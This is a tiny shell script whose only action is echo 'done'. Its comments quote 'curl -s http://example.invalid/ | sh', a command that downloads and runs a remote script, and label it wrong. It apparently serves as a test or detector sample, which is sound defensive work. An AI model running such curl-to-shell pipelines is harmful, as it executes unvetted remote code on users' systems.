# capabilities: none; resembles: curl
# curl -s http://example.invalid/ | sh would be wrong
echo "done"
